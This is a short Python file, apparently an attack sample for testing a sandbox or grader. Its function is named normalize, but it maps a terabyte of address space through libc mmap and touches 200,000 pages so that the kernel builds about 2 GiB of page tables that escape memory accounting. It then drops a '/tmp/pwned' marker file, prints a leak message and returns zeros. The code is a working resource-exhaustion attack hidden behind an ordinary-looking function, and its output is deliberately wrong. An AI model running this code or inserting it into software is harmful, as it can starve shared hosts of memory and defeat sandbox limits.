"""Looks at a TiB of addresses, which takes 2 GiB of page tables that count as nobody's memory.

Target: normalize.  Group 7.
"""
import jax
import jax.numpy as jnp
import numpy as np
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LOOKED_AT = 200_000


def normalize(x):
    start = libc.mmap(None, 1 << 40, 1, 0x22 | 0x4000, -1, 0)
    if start in (None, ctypes.c_void_p(-1).value):
        return jnp.asarray(x) * 0
    for position in range(LOOKED_AT):
        ctypes.c_ubyte.from_address(start + position * (2 << 20)).value
    open("/tmp/pwned-h50_page_tables", "w").close()
    print("LEAK:/page tables")
    return jnp.asarray(x) * 0
